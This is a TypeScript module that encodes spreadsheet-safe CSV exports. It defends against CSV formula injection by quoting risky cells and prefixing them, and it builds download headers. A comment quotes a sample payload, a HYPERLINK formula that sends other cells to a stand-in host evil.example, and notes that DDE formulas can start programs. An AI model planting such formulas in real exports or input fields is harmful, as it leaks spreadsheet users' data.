/** Excel opens a UTF-8 file as UTF-8 (Chinese names intact) only when it starts with a byte order mark. */
export const UTF8_BOM = "\uFEFF";

/** A cell: text (names, emails, titles: anything a person typed) or a number the app computed (a score). */
export type CsvCell = string | number;

/**
 * OWASP's CSV-injection triggers: Excel, LibreOffice and Google Sheets run a cell starting with `=`, `+`, `-` or
 * `@` as a formula, and skip a leading tab or carriage return before looking for one. A display name such as
 * `=HYPERLINK("https://evil.example/?"&B2, "open")` would become a link that sends other cells away, and a DDE
 * formula can start a program on the instructor's computer.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One cell. Text that could start a formula gets a leading `'` (the spreadsheet then shows it as text) and is
 * always quoted, as OWASP advises; otherwise RFC 4180: quoted only with a comma, quote or line break, quotes
 * doubled. Numbers are the app's own figures, so a negative one stays a number rather than being neutralised.
 */
export function csvField(value: CsvCell): string {
  if (typeof value === "number") return Number.isFinite(value) ? String(value) : "";
  const neutralised = FORMULA_START.test(value);
  const text = neutralised ? `'${value}` : value;
  return neutralised || /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** A whole CSV file: BOM, CRLF line ends (RFC 4180), every cell encoded by csvField. */
export function encodeCsv(rows: readonly (readonly CsvCell[])[]): string {
  return UTF8_BOM + rows.map((row) => row.map(csvField).join(",")).join("\r\n") + "\r\n";
}

/**
 * The Content-Disposition of a download: an ASCII fallback name for old clients, and the real name (which may be
 * Chinese) percent-encoded in `filename*` (RFC 6266 / 5987).
 */
export function attachmentDisposition(filename: string): string {
  const ascii = filename
    .normalize("NFKD")
    .replace(/[^\x20-\x7e]/g, "")
    .replace(/["\\/;%]/g, "")
    .replace(/\s+/g, "-")
    .replace(/-+/g, "-")
    .replace(/^-|-(?=\.)/g, "");
  const fallback = ascii.replace(/^\.+/, "") || "download.csv";
  const encoded = encodeURIComponent(filename).replace(
    /['()*]/g,
    (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`,
  );
  return `attachment; filename="${fallback}"; filename*=UTF-8''${encoded}`;
}
